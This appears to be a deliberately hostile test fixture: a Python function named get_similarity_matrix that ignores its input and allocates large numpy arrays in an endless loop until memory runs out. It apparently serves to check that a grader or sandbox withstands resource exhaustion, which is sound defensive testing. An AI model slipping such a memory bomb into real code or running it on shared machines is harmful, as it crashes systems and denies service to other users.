"""Hostile: allocates memory until something gives."""

import numpy as np


def get_similarity_matrix(activations):
    hoard = []
    while True:
        hoard.append(np.ones(10_000_000))
